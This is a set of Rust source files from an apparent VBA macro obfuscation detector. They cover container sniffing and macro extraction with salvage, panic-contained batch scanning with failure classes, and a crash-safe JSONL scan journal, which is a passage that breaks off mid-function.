    salvage_modules_from_bytes_budgeted, salvage_modules_from_ole_budgeted, OvbaError, VbaProject,
};
use vbadet_zip::ZipArchive;

/// Detected container family.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum ContainerKind {
    /// OLE compound file (`.doc`, `.xls`, raw `vbaProject.bin`).
    Ole,
    /// OOXML ZIP (`.docm`, `.xlsm`, …).
    Ooxml,
}

/// One macro module recovered from a document.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ExtractedMacro {
    /// Module name from the project `dir` stream.
    pub module_name: String,
    /// Decompressed VBA source.
    pub code: String,
    /// Name of the VBA project the module came from.
    pub project_name: String,
    /// Container family of the input document.
    pub container: ContainerKind,
}

/// Sniffs the container type from magic bytes.
pub fn sniff(bytes: &[u8]) -> Option<ContainerKind> {
    if bytes.starts_with(&[0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1]) {
        Some(ContainerKind::Ole)
    } else if bytes.starts_with(b"PK") {
        Some(ContainerKind::Ooxml)
    } else {
        None
    }
}

/// Extracts all VBA macros from a document (`.doc`, `.xls`, `.docm`,
/// `.xlsm` or a bare `vbaProject.bin`).
///
/// # Errors
///
/// Fails when the container is unrecognized or malformed, or when an OOXML
/// archive carries no VBA part. A well-formed document *without* macros
/// yields `Ok` with an empty vector only for OLE files that genuinely have
/// no project ([`DetectError::NoVbaPart`] is OOXML-specific because a macro
/// extension like `.docm` implies one).
pub fn extract_macros(bytes: &[u8]) -> Result<Vec<ExtractedMacro>, DetectError> {
    match sniff(bytes) {
        Some(ContainerKind::Ole) => {
            let ole = OleFile::parse(bytes)?;
            match VbaProject::from_ole(&ole) {
                Ok(project) => Ok(project_to_macros(project, ContainerKind::Ole)),
                Err(vbadet_ovba::OvbaError::NoVbaProject) => Ok(Vec::new()),
                Err(e) => Err(e.into()),
            }
        }
        Some(ContainerKind::Ooxml) => {
            let zip = ZipArchive::parse(bytes)?;
            let part = zip
                .names()
                .find(|n| n.ends_with("vbaProject.bin"))
                .map(str::to_string)
                .ok_or(DetectError::NoVbaPart)?;
            let bin = zip.read_file(&part)?;
            let ole = OleFile::parse(&bin)?;
            let project = VbaProject::from_ole(&ole)?;
            Ok(project_to_macros(project, ContainerKind::Ooxml))
        }
        None => Err(DetectError::UnknownContainer),
    }
}

/// How the macros of an [`Extraction`] were recovered.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum ExtractionStatus {
    /// The VBA project parsed cleanly per MS-OVBA.
    Parsed,
    /// The project structures were unreadable (stomped `dir` stream,
    /// corrupted directory…) but module source was recovered by scanning
    /// for intact compressed containers.
    Salvaged,
}

/// Result of limit-aware extraction: the recovered macros plus whether the
/// strict parser or the salvage scanner produced them.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Extraction {
    /// Recovered macro modules (possibly empty for a macro-free OLE file).
    pub macros: Vec<ExtractedMacro>,
    /// Provenance of the recovery.
    pub status: ExtractionStatus,
}

/// Like [`extract_macros`], but under explicit [`ScanLimits`] and with a
/// salvage fallback: when the project structures are malformed yet intact
/// compressed containers remain, their modules are recovered and the result
/// is tagged [`ExtractionStatus::Salvaged`].
///
/// Limit breaches are *not* salvaged — an input that trips a resource cap
/// is reported as [`DetectError`] wrapping a `LimitExceeded` so batch
/// callers can surface it as a typed outcome rather than silently
/// truncating.
///
/// # Errors
///
/// As [`extract_macros`], except that structure errors for which salvage
/// recovers at least one module become `Ok` with `Salvaged` status.
pub fn extract_macros_with_limits(
    bytes: &[u8],
    limits: &ScanLimits,
) -> Result<Extraction, DetectError> {
    extract_macros_bounded(bytes, limits, &Budget::unlimited())
}

/// Like [`extract_macros_with_limits`], but additionally bounded by a
/// cooperative scan [`Budget`] threaded through every container layer. A
/// pathological-but-limit-respecting document trips the budget instead of
/// stalling, surfacing as a typed `DeadlineExceeded` error from whichever
/// layer was mid-parse.
///
/// A budget trip is *final*: unlike structural damage, it is never
/// salvaged, because the salvage scan spends the same (already exhausted)
/// budget.
///
/// # Errors
///
/// As [`extract_macros_with_limits`], plus `DeadlineExceeded` wrappers.
pub fn extract_macros_bounded(
    bytes: &[u8],
    limits: &ScanLimits,
    budget: &Budget,
) -> Result<Extraction, DetectError> {
    budget.metrics().count(Counter::ExtractDocs, 1);
    match sniff(bytes) {
        Some(ContainerKind::Ole) => {
            extract_from_ole_bytes(bytes, ContainerKind::Ole, limits, budget)
        }
        Some(ContainerKind::Ooxml) => {
            budget.checkpoint().map_err(OvbaError::from)?;
            let zip = ZipArchive::parse_budgeted(bytes, limits.zip, budget.clone())?;
            let part = zip
                .names()
                .find(|n| n.ends_with("vbaProject.bin"))
                .map(str::to_string)
                .ok_or(DetectError::NoVbaPart)?;
            let bin = zip.read_file(&part)?;
            extract_from_ole_bytes(&bin, ContainerKind::Ooxml, limits, budget)
        }
        None => Err(DetectError::UnknownContainer),
    }
}

/// Parses an OLE buffer and extracts its VBA project, salvaging when the
/// strict path fails for a reason other than a resource cap or a budget
/// trip.
fn extract_from_ole_bytes(
    bytes: &[u8],
    container: ContainerKind,
    limits: &ScanLimits,
    budget: &Budget,
) -> Result<Extraction, DetectError> {
    // Explicit clock reads at the layer boundaries: `charge` amortizes its
    // wall-clock checks over many charges, so a small document that stalls
    // (rather than works) could otherwise slip past its deadline unnoticed.
    budget.checkpoint().map_err(OvbaError::from)?;
    let ole = match OleFile::parse_budgeted(bytes, limits.ole, budget.clone()) {
        Ok(ole) => ole,
        Err(
            e @ (vbadet_ole::OleError::LimitExceeded { .. }
            | vbadet_ole::OleError::ChainCycle { .. }
            | vbadet_ole::OleError::DeadlineExceeded(_)),
        ) => return Err(e.into()),
        Err(e) => {
            // The compound file itself is unreadable; scan the raw buffer
            // for compressed containers as a last resort.
            let salvaged = {
                let _t = budget.metrics().time(Stage::OvbaSalvageNs);
                salvage_modules_from_bytes_budgeted(bytes, "", &limits.ovba, budget)?
            };
            budget.checkpoint().map_err(OvbaError::from)?;
            if salvaged.is_empty() {
                return Err(e.into());
            }
            budget.metrics().count(Counter::ExtractSalvaged, 1);
            return Ok(Extraction {
                macros: modules_to_macros(salvaged, container),
                status: ExtractionStatus::Salvaged,
            });
        }
    };
    match VbaProject::from_ole_budgeted(&ole, &limits.ovba, budget) {
        Ok(project) => {
            budget.checkpoint().map_err(OvbaError::from)?;
            budget.metrics().count(Counter::ExtractParsed, 1);
            Ok(Extraction {
                macros: project_to_macros(project, container),
                status: ExtractionStatus::Parsed,
            })
        }
        Err(OvbaError::NoVbaProject) if container == ContainerKind::Ole => {
            budget.metrics().count(Counter::ExtractParsed, 1);
            Ok(Extraction {
                macros: Vec::new(),
                status: ExtractionStatus::Parsed,
            })
        }
        Err(e @ (OvbaError::LimitExceeded { .. } | OvbaError::DeadlineExceeded(_))) => {
            Err(e.into())
        }
        Err(e) => {
            let salvaged = {
                let _t = budget.metrics().time(Stage::OvbaSalvageNs);
                salvage_modules_from_ole_budgeted(&ole, &limits.ovba, budget)?
            };
            budget.checkpoint().map_err(OvbaError::from)?;
            if salvaged.is_empty() {
                return Err(e.into());
            }
            budget.metrics().count(Counter::ExtractSalvaged, 1);
            Ok(Extraction {
                macros: modules_to_macros(salvaged, container),
                status: ExtractionStatus::Salvaged,
            })
        }
    }
}

fn modules_to_macros(
    modules: Vec<vbadet_ovba::VbaModule>,
    container: ContainerKind,
) -> Vec<ExtractedMacro> {
    modules
        .into_iter()
        .map(|m| ExtractedMacro {
            module_name: m.name,
            code: m.code,
            project_name: String::from("<salvaged>"),
            container,
        })
        .collect()
}

fn project_to_macros(project: VbaProject, container: ContainerKind) -> Vec<ExtractedMacro> {
    let project_name = project.name;
    project
        .modules
        .into_iter()
        .map(|m| ExtractedMacro {
            module_name: m.name,
            code: m.code,
            project_name: project_name.clone(),
            container,
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use vbadet_ole::OleBuilder;
    use vbadet_ovba::VbaProjectBuilder;
    use vbadet_zip::{CompressionMethod, ZipWriter};

    fn project() -> VbaProjectBuilder {
        let mut b = VbaProjectBuilder::new("Proj");
        b.add_module("ThisDocument", "Sub Document_Open()\r\nEnd Sub\r\n");
        b.add_module("Module1", "Sub Work()\r\n    x = 1\r\nEnd Sub\r\n");
        b
    }

    #[test]
    fn extracts_from_bare_vba_project_bin() {
        let bin = project().build().unwrap();
        let macros = extract_macros(&bin).unwrap();
        assert_eq!(macros.len(), 2);
        assert_eq!(macros[0].module_name, "ThisDocument");
        assert_eq!(macros[0].container, ContainerKind::Ole);
        assert_eq!(macros[0].project_name, "Proj");
    }

    #[test]
    fn extracts_from_legacy_doc() {
        let mut ole = OleBuilder::new();
        ole.add_stream("WordDocument", &[0u8; 4096]).unwrap();
        project().write_into(&mut ole, "Macros").unwrap();
        let macros = extract_macros(&ole.build()).unwrap();
        assert_eq!(macros.len(), 2);
    }

    #[test]
    fn extracts_from_docm() {
        let bin = project().build().unwrap();
        let mut zip = ZipWriter::new();
        zip.add_file(
            "[Content_Types].xml",
            b"<Types/>",
            CompressionMethod::Deflate,
        )
        .unwrap();
        zip.add_file("word/vbaProject.bin", &bin, CompressionMethod::Deflate)
            .unwrap();
        let macros = extract_macros(&zip.finish()).unwrap();
        assert_eq!(macros.len(), 2);
        assert_eq!(macros[0].container, ContainerKind::Ooxml);
    }

    #[test]
    fn ole_without_macros_yields_empty() {
        let mut ole = OleBuilder::new();
        ole.add_stream("WordDocument", b"plain document").unwrap();
        assert!(extract_macros(&ole.build()).unwrap().is_empty());
    }

    #[test]
    fn ooxml_without_vba_part_is_reported() {
        let mut zip = ZipWriter::new();
        zip.add_file("word/document.xml", b"<doc/>", CompressionMethod::Deflate)
            .unwrap();
        assert!(matches!(
            extract_macros(&zip.finish()),
            Err(DetectError::NoVbaPart)
        ));
    }

    #[test]
    fn unknown_bytes_rejected() {
        assert!(matches!(
            extract_macros(b"%PDF-1.4 not an office doc"),
            Err(DetectError::UnknownContainer)
        ));
        assert!(matches!(
            extract_macros(b""),
            Err(DetectError::UnknownContainer)
        ));
    }

    #[test]
    fn sniffing() {
        assert_eq!(sniff(b"PK\x03\x04rest"), Some(ContainerKind::Ooxml));
        assert_eq!(
            sniff(&[0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, 0, 0]),
            Some(ContainerKind::Ole)
        );
        assert_eq!(sniff(b"MZ"), None);
    }
}
