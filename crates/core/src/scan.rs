//! Never-abort batch scanning.
//!
//! A malware triage run processes thousands of files, many of them
//! deliberately malformed; one hostile document must never take down the
//! batch. [`scan_paths`] (and the in-memory [`scan_documents`]) process
//! every input, isolate per-document panics with
//! [`std::panic::catch_unwind`], classify each failure into a
//! [`FailureClass`], and aggregate everything into a [`ScanReport`].

use std::panic::{catch_unwind, AssertUnwindSafe};
use std::path::{Path, PathBuf};

use crate::detector::{Detector, ModuleVerdict};
use crate::extract::{extract_macros_with_limits, ExtractionStatus};
use crate::limits::ScanLimits;
use crate::DetectError;

/// Why a document could not be scanned, at the granularity the batch
/// report cares about.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum FailureClass {
    /// A sector or DIFAT chain in the compound file loops.
    CyclicChain,
    /// A configured [`ScanLimits`] cap was hit (decompression bomb,
    /// oversized directory…).
    LimitExceeded,
    /// The file ends before a referenced structure.
    Truncated,
    /// A structure is malformed in some other way and salvage recovered
    /// nothing.
    Malformed,
    /// The bytes are neither an OLE compound file nor a ZIP archive.
    UnknownContainer,
    /// An OOXML archive with no `vbaProject.bin` part.
    NoVbaPart,
    /// The file could not be read from disk.
    Io,
    /// The scanner itself panicked on this input (a bug — the panic is
    /// contained and reported rather than aborting the batch).
    Panic,
}

impl FailureClass {
    /// Maps a detection error onto its batch-report class.
    pub fn from_error(e: &DetectError) -> Self {
        use vbadet_ole::OleError;
        use vbadet_ovba::OvbaError;
        use vbadet_zip::ZipError;
        match e {
            DetectError::UnknownContainer => FailureClass::UnknownContainer,
            DetectError::NoVbaPart => FailureClass::NoVbaPart,
            DetectError::Zip(ZipError::LimitExceeded { .. })
            | DetectError::Ole(OleError::LimitExceeded { .. })
            | DetectError::Ovba(OvbaError::LimitExceeded { .. })
            | DetectError::Ovba(OvbaError::Ole(OleError::LimitExceeded { .. })) => {
                FailureClass::LimitExceeded
            }
            DetectError::Ole(OleError::ChainCycle { .. })
            | DetectError::Ovba(OvbaError::Ole(OleError::ChainCycle { .. })) => {
                FailureClass::CyclicChain
            }
            DetectError::Zip(ZipError::Truncated { .. })
            | DetectError::Ole(OleError::Truncated { .. })
            | DetectError::Ovba(OvbaError::TruncatedContainer)
            | DetectError::Ovba(OvbaError::Ole(OleError::Truncated { .. })) => {
                FailureClass::Truncated
            }
            _ => FailureClass::Malformed,
        }
    }

    /// Stable lowercase label used in reports and CLI output.
    pub fn label(self) -> &'static str {
        match self {
            FailureClass::CyclicChain => "cyclic-chain",
            FailureClass::LimitExceeded => "limit-exceeded",
            FailureClass::Truncated => "truncated",
            FailureClass::Malformed => "malformed",
            FailureClass::UnknownContainer => "unknown-container",
            FailureClass::NoVbaPart => "no-vba-part",
            FailureClass::Io => "io-error",
            FailureClass::Panic => "panic",
        }
    }
}

/// Outcome of scanning one document.
#[derive(Debug, Clone, PartialEq)]
pub enum ScanOutcome {
    /// Parsed cleanly; no macros present.
    Clean,
    /// Parsed cleanly; per-module verdicts attached.
    Macros(Vec<ModuleVerdict>),
    /// Project structures were damaged but modules were recovered by the
    /// salvage scanner; verdicts attached.
    Salvaged(Vec<ModuleVerdict>),
    /// The document could not be scanned.
    Failed {
        /// Broad class of the failure, for aggregation.
        class: FailureClass,
        /// Human-readable detail (the underlying error or panic message).
        detail: String,
    },
}

impl ScanOutcome {
    /// Whether any attached verdict flags obfuscation.
    pub fn flagged(&self) -> bool {
        match self {
            ScanOutcome::Macros(v) | ScanOutcome::Salvaged(v) => {
                v.iter().any(|m| m.verdict.obfuscated)
            }
            _ => false,
        }
    }
}

/// One scanned document inside a [`ScanReport`].
#[derive(Debug, Clone, PartialEq)]
pub struct ScanRecord {
    /// Input path (or a synthetic label for in-memory scans).
    pub path: PathBuf,
    /// What happened.
    pub outcome: ScanOutcome,
}

/// Aggregate result of a batch scan. Every input appears exactly once in
/// [`records`](Self::records), whatever happened to it.
#[derive(Debug, Clone, Default, PartialEq)]
pub struct ScanReport {
    /// Per-document outcomes, in input order.
    pub records: Vec<ScanRecord>,
}

impl ScanReport {
    /// Total number of inputs processed.
    pub fn scanned(&self) -> usize {
        self.records.len()
    }

    /// Documents that parsed with no macros.
    pub fn clean(&self) -> usize {
        self.records.iter().filter(|r| matches!(r.outcome, ScanOutcome::Clean)).count()
    }

    /// Documents with at least one module flagged as obfuscated.
    pub fn flagged(&self) -> usize {
        self.records.iter().filter(|r| r.outcome.flagged()).count()
    }

    /// Documents whose macros came from the salvage scanner.
    pub fn salvaged(&self) -> usize {
        self.records.iter().filter(|r| matches!(r.outcome, ScanOutcome::Salvaged(_))).count()
    }

    /// Documents that could not be scanned at all.
    pub fn failed(&self) -> usize {
        self.records.iter().filter(|r| matches!(r.outcome, ScanOutcome::Failed { .. })).count()
    }

    /// Failure count for one class.
    pub fn failed_with(&self, class: FailureClass) -> usize {
        self.records
            .iter()
            .filter(|r| matches!(&r.outcome, ScanOutcome::Failed { class: c, .. } if *c == class))
            .count()
    }
}

/// Scans one in-memory document, containing any panic from the parsing or
/// scoring stack.
///
/// This is the batch engine's unit of work: it never returns `Err` and
/// never unwinds — every abnormal path becomes [`ScanOutcome::Failed`].
pub fn scan_bytes(detector: &Detector, bytes: &[u8], limits: &ScanLimits) -> ScanOutcome {
    let result = catch_unwind(AssertUnwindSafe(|| scan_bytes_inner(detector, bytes, limits)));
    match result {
        Ok(outcome) => outcome,
        Err(payload) => {
            let detail = payload
                .downcast_ref::<&str>()
                .map(|s| s.to_string())
                .or_else(|| payload.downcast_ref::<String>().cloned())
                .unwrap_or_else(|| "opaque panic payload".to_string());
            ScanOutcome::Failed { class: FailureClass::Panic, detail }
        }
    }
}

fn scan_bytes_inner(detector: &Detector, bytes: &[u8], limits: &ScanLimits) -> ScanOutcome {
    match extract_macros_with_limits(bytes, limits) {
        Ok(extraction) => {
            if extraction.macros.is_empty() {
                return ScanOutcome::Clean;
            }
            let verdicts = extraction
                .macros
                .iter()
                .map(|m| ModuleVerdict {
                    module_name: m.module_name.clone(),
                    verdict: detector.score(&m.code),
                })
                .collect();
            match extraction.status {
                ExtractionStatus::Parsed => ScanOutcome::Macros(verdicts),
                ExtractionStatus::Salvaged => ScanOutcome::Salvaged(verdicts),
            }
        }
        Err(e) => {
            ScanOutcome::Failed { class: FailureClass::from_error(&e), detail: e.to_string() }
        }
    }
}

/// Scans a batch of labelled in-memory documents. Used by tests and the
/// fuzz harness; [`scan_paths`] is the filesystem-facing equivalent.
pub fn scan_documents<'a, I>(detector: &Detector, docs: I, limits: &ScanLimits) -> ScanReport
where
    I: IntoIterator<Item = (&'a str, &'a [u8])>,
{
    let records = docs
        .into_iter()
        .map(|(label, bytes)| ScanRecord {
            path: PathBuf::from(label),
            outcome: scan_bytes(detector, bytes, limits),
        })
        .collect();
    ScanReport { records }
}

/// Scans every path in order, never aborting: unreadable files become
/// [`FailureClass::Io`] records, parser panics become
/// [`FailureClass::Panic`] records, and the batch always runs to the end.
pub fn scan_paths<P: AsRef<Path>>(
    detector: &Detector,
    paths: &[P],
    limits: &ScanLimits,
) -> ScanReport {
    let records = paths
        .iter()
        .map(|p| {
            let path = p.as_ref().to_path_buf();
            let outcome = match std::fs::read(&path) {
                Ok(bytes) => scan_bytes(detector, &bytes, limits),
                Err(e) => {
                    ScanOutcome::Failed { class: FailureClass::Io, detail: e.to_string() }
                }
            };
            ScanRecord { path, outcome }
        })
        .collect();
    ScanReport { records }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::detector::DetectorConfig;
    use vbadet_corpus::CorpusSpec;
    use vbadet_ovba::VbaProjectBuilder;

    fn detector() -> Detector {
        Detector::train_on_corpus(&DetectorConfig::default(), &CorpusSpec::paper().scaled(0.05))
    }

    fn doc_with_macro() -> Vec<u8> {
        let mut b = VbaProjectBuilder::new("P");
        b.add_module("Module1", "Sub Work()\r\n    x = 1\r\nEnd Sub\r\n");
        b.build().unwrap()
    }

    #[test]
    fn batch_mixes_outcomes_without_aborting() {
        let det = detector();
        let with_macro = doc_with_macro();
        let mut clean_ole = vbadet_ole::OleBuilder::new();
        clean_ole.add_stream("WordDocument", b"no macros here").unwrap();
        let clean = clean_ole.build();
        let docs: Vec<(&str, &[u8])> = vec![
            ("a.bin", &with_macro[..]),
            ("b.doc", &clean[..]),
            ("c.txt", b"not a document at all"),
            ("d.doc", &with_macro[..7]),
        ];
        let report = scan_documents(&det, docs, &ScanLimits::default());
        assert_eq!(report.scanned(), 4);
        assert!(matches!(report.records[0].outcome, ScanOutcome::Macros(_)));
        assert!(matches!(report.records[1].outcome, ScanOutcome::Clean));
        assert_eq!(report.failed(), 2);
        assert_eq!(report.failed_with(FailureClass::UnknownContainer), 2);
    }

    #[test]
    fn missing_file_is_an_io_failure_not_an_abort() {
        let det = detector();
        let report = scan_paths(
            &det,
            &["/nonexistent/definitely-not-here.doc"],
            &ScanLimits::default(),
        );
        assert_eq!(report.scanned(), 1);
        assert_eq!(report.failed_with(FailureClass::Io), 1);
    }

    #[test]
    fn panics_are_contained_per_document() {
        // No known panicking input exists (that's the point of the fuzz
        // harness), so exercise the containment path directly.
        let outcome = catch_unwind(AssertUnwindSafe(|| -> ScanOutcome {
            panic!("synthetic parser bug");
        }))
        .err()
        .map(|payload| {
            let detail = payload
                .downcast_ref::<&str>()
                .map(|s| s.to_string())
                .unwrap_or_default();
            ScanOutcome::Failed { class: FailureClass::Panic, detail }
        })
        .unwrap();
        assert!(matches!(
            outcome,
            ScanOutcome::Failed { class: FailureClass::Panic, ref detail }
                if detail == "synthetic parser bug"
        ));
    }

    #[test]
    fn failure_labels_are_stable() {
        assert_eq!(FailureClass::CyclicChain.label(), "cyclic-chain");
        assert_eq!(FailureClass::LimitExceeded.label(), "limit-exceeded");
        assert_eq!(FailureClass::Panic.label(), "panic");
    }
}
