//! Crash-safe scan journal: append-only JSONL checkpointing and replay.
//!
//! A triage run over a large corpus can be killed at any moment — OOM
//! reaper, power loss, an operator's Ctrl-C — and rescanning hundreds of
//! thousands of already-decided documents is the difference between a
//! ten-minute and a ten-hour recovery. [`ScanJournal`] checkpoints a batch
//! scan as it runs: one JSON object per line, a `begin` record before each
//! document is parsed and a `done` record (carrying its full
//! [`ScanOutcome`]) after. Each line is written and flushed as a unit;
//! every [`FSYNC_PERIOD`] records the file is additionally fsynced, so at
//! most one batch of buffered records is exposed to a power cut while an
//! ordinary process kill loses nothing.
//!
//! [`replay_journal`] reads a journal back tolerantly: a torn final line —
//! the expected wreckage of a crash mid-write — ends the replay with a
//! warning instead of an error, and any document with a `begin` but no
//! `done` is reported as in-flight so the resuming scan re-attempts it.
//!
//! The format is deliberately self-describing (a header line names the
//! format and version) and hand-rolled: one writer, one minimal
//! recursive-descent parser, no serialization dependency to drag into the
//! scanning core.

use std::collections::HashMap;
use std::fs::File;
use std::io::{self, Read as _, Write as _};
use std::path::Path;

use crate::detector::{ModuleVerdict, Verdict};
use crate::scan::{FailureClass, LadderRung, ScanOutcome, ScanRecord};

/// Format name carried by the journal's header line.
pub const JOURNAL_FORMAT: &str = "vbadet-scan-journal";
/// Format version carried by the journal's header line.
pub const JOURNAL_VERSION: u64 = 1;
/// The journal is fsynced every this many records (and at creation and
/// [`ScanJournal::sync`]). Between fsyncs records are still written and
/// flushed per line, so only an OS-level crash can lose them.
const FSYNC_PERIOD: usize = 64;

/// Append-only checkpoint writer for a batch scan.
///
/// Created fresh per scan run; the header line is written and fsynced
/// immediately so even an instantly-killed run leaves a recognizable
/// journal.
#[derive(Debug)]
pub struct ScanJournal {
    file: File,
    unsynced: usize,
    bytes_written: u64,
}

impl ScanJournal {
    /// Creates (truncating) a journal at `path` and writes the header.
    ///
    /// # Errors
    ///
    /// Any I/O error creating or writing the file.
    pub fn create<P: AsRef<Path>>(path: P) -> io::Result<Self> {
        let file = File::create(path)?;
        let mut journal = ScanJournal {
            file,
            unsynced: 0,
            bytes_written: 0,
        };
        journal.write_line(&format!(
            "{{\"format\":{},\"version\":{JOURNAL_VERSION}}}",
            json_str(JOURNAL_FORMAT)
        ))?;
        journal.file.sync_data()?;
        journal.unsynced = 0;
        Ok(journal)
    }

    /// Records that `path` is about to be scanned. A `begin` without a
    /// matching `done` marks the document as in-flight on replay.
    ///
    /// # Errors
    ///
    /// Any I/O error appending to the journal.
    pub fn begin(&mut self, path: &str) -> io::Result<()> {
        self.write_line(&format!(
            "{{\"event\":\"begin\",\"path\":{}}}",
            json_str(path)
        ))
    }

    /// Records a completed document with its full outcome.
    ///
    /// # Errors
    ///
    /// Any I/O error appending to the journal.
    pub fn done(&mut self, record: &ScanRecord) -> io::Result<()> {
        let line = format!(
            "{{\"event\":\"done\",\"path\":{},\"outcome\":{}}}",
            json_str(&record.path.display().to_string()),
            outcome_json(&record.outcome),
        );
        if vbadet_faultpoint::fire("journal::torn-write").is_some() {
            // Simulate a crash mid-write: half the record reaches the
            // file, then the writer dies.
            self.file.write_all(&line.as_bytes()[..line.len() / 2])?;
            self.file.flush()?;
            return Err(io::Error::other("injected torn journal write"));
        }
        self.write_line(&line)
    }

    /// Forces an fsync now (end-of-batch durability point).
    ///
    /// # Errors
    ///
    /// Any I/O error from the sync.
    pub fn sync(&mut self) -> io::Result<()> {
        self.unsynced = 0;
        self.file.sync_data()
    }

    /// Total bytes appended so far, including the header line. Torn writes
    /// (the fault-injected half-record) are not counted: the record never
    /// durably completed.
    pub fn bytes_written(&self) -> u64 {
        self.bytes_written
    }

    fn write_line(&mut self, line: &str) -> io::Result<()> {
        self.file.write_all(line.as_bytes())?;
        self.file.write_all(b"\n")?;
        self.file.flush()?;
        self.bytes_written += line.len() as u64 + 1;
        self.unsynced += 1;
        if self.unsynced >= FSYNC_PERIOD {
            self.sync()?;
        }
        Ok(())
    }
}

/// What a journal says happened before the crash.
#[derive(Debug, Clone, Default, PartialEq)]
pub struct JournalReplay {
    completed: HashMap<String, ScanOutcome>,
    /// Paths with a `begin` but no `done`: documents that were mid-scan
    /// when the run died and must be re-attempted.
    pub in_flight: Vec<String>,
    /// Set when the journal ends in a torn or garbled record (the normal
    /// signature of a crash mid-write). Everything before the damage is
    /// still replayed.
    pub warning: Option<String>,
}

impl JournalReplay {
    /// The recorded outcome for `path`, if its scan completed.
    pub fn outcome_for(&self, path: &str) -> Option<&ScanOutcome> {
        self.completed.get(path)
    }

    /// Number of documents with a recorded outcome.
    pub fn completed_count(&self) -> usize {
        self.completed.len()
    }
}

/// Reads a journal back, tolerating the torn tail a crash leaves behind.
///
/// # Errors
///
/// Fails only when the file cannot be read at all or its header is missing
/// or names an unknown format/version — damage *within* the body
/// degrades to [`JournalReplay::warning`] instead.
pub fn replay_journal<P: AsRef<Path>>(path: P) -> io::Result<JournalReplay> {
    let mut text = String::new();
    File::open(path)?.read_to_string(&mut text)?;
    let mut lines = text.lines();
    let bad = |msg: &str| io::Error::new(io::ErrorKind::InvalidData, msg.to_string());
    let header = lines.next().ok_or_else(|| bad("empty journal"))?;
    let header = parse_json(header).map_err(|e| bad(&format!("bad journal header: {e}")))?;
    if header.get("format").and_then(Json::as_str) != Some(JOURNAL_FORMAT) {
        return Err(bad("not a vbadet scan journal"));
    }
    if header.get("version").and_then(Json::as_u64) != Some(JOURNAL_VERSION) {
        return Err(bad("unsupported journal version"));
    }
    let mut replay = JournalReplay::default();
    let mut pending: Vec<String> = Vec::new();
    for (idx, line) in lines.enumerate() {
        let record = match parse_json(line).and_then(|j| decode_event(&j)) {
            Ok(record) => record,
            Err(e) => {
                // Line numbers are 1-based and the header is line 1.
                replay.warning = Some(format!(
                    "journal damaged at line {}: {e}; later records ignored",
                    idx + 2
                ));
                break;
            }
        };
        match record {
            Event::Begin(path) => {
                if !pending.contains(&path) {
                    pending.push(path);
                }
            }
            Event::Done(path, outcome) => {
                pending.retain(|p| p != &path);
                replay.completed.insert(path, outcome);
            }
        }
    }
    replay.in_flight = pending;
    Ok(replay)
}

enum Event {
    Begin(String),
    Done(String, ScanOutcome),
}

fn decode_event(j: &Json) -> Result<Event, String> {
    let event = j
        .get("event")
        .and_then(Json::as_str)
        .ok_or("record without event")?;
    let path = j
        .get("path")
        .and_then(Json::as_str)
        .ok_or("record without path")?
        .to_string();
    match event {
        "begin" => Ok(Event::Begin(path)),
        "done" => {
            let outcome = j.get("outcome").ok_or("done record without outcome")?;
            Ok(Event::Done(path, decode_outcome(outcome)?))
        }
        other => Err(format!("unknown event {other:?}")),
    }
}

// ---------------------------------------------------------------------------
// Outcome encoding
// ---------------------------------------------------------------------------

pub(crate) fn outcome_json(outcome: &ScanOutcome) -> String {
    match outcome {
        ScanOutcome::Clean => "{\"kind\":\"clean\"}".to_string(),
        ScanOutcome::Macros(v) => {
            format!("{{\"kind\":\"macros\",\"verdicts\":{}}}", verdicts_json(v))
        }
        ScanOutcome::Salvaged(v) => {
            format!(
                "{{\"kind\":\"salvaged\",\"verdicts\":{}}}",
                verdicts_json(v)
            )
        }
        ScanOutcome::Recovered { rung, verdicts } => format!(
            "{{\"kind\":\"recovered\",\"rung\":{},\"verdicts\":{}}}",
            json_str(rung.label()),
            verdicts_json(verdicts)
        ),
        ScanOutcome::Failed { class, detail } => format!(
            "{{\"kind\":\"failed\",\"class\":{},\"detail\":{}}}",
            json_str(class.label()),
            json_str(detail)
        ),
    }
}

fn verdicts_json(verdicts: &[ModuleVerdict]) -> String {
    let items: Vec<String> = verdicts
        .iter()
        .map(|m| {
            format!(
                "{{\"module\":{},\"obfuscated\":{},\"score\":{}}}",
                json_str(&m.module_name),
                m.verdict.obfuscated,
                fmt_f64(m.verdict.score)
            )
        })
        .collect();
    format!("[{}]", items.join(","))
}

/// Shortest-roundtrip float formatting: Rust's `Display` for `f64` prints
/// the shortest decimal that parses back to the same bits, which is
/// exactly the property a checkpoint needs. Non-finite scores (which the
/// detector never produces) degrade to JSON `null`.
fn fmt_f64(x: f64) -> String {
    if x.is_finite() {
        let s = format!("{x}");
        if s.contains('.') || s.contains('e') || s.contains('E') {
            s
        } else {
            format!("{s}.0")
        }
    } else {
        "null".to_string()
    }
}

pub(crate) fn decode_outcome(j: &Json) -> Result<ScanOutcome, String> {
    let kind = j
        .get("kind")
        .and_then(Json::as_str)
        .ok_or("outcome without kind")?;
    let verdicts = |j: &Json| -> Result<Vec<ModuleVerdict>, String> {
        j.get("verdicts")
            .and_then(Json::as_arr)
            .ok_or("outcome without verdicts")?
            .iter()
            .map(|v| {
                Ok(ModuleVerdict {
                    module_name: v
                        .get("module")
                        .and_then(Json::as_str)
                        .ok_or("verdict without module")?
                        .to_string(),
                    verdict: Verdict {
                        obfuscated: v
                            .get("obfuscated")
                            .and_then(Json::as_bool)
                            .ok_or("verdict without obfuscated")?,
                        score: v.get("score").and_then(Json::as_f64).unwrap_or(f64::NAN),
                    },
                })
            })
            .collect()
    };
    match kind {
        "clean" => Ok(ScanOutcome::Clean),
        "macros" => Ok(ScanOutcome::Macros(verdicts(j)?)),
        "salvaged" => Ok(ScanOutcome::Salvaged(verdicts(j)?)),
        "recovered" => {
            let rung = j
                .get("rung")
                .and_then(Json::as_str)
                .and_then(LadderRung::from_label)
                .ok_or("recovered outcome without a valid rung")?;
            Ok(ScanOutcome::Recovered {
                rung,
                verdicts: verdicts(j)?,
            })
        }
        "failed" => Ok(ScanOutcome::Failed {
            class: j
                .get("class")
                .and_then(Json::as_str)
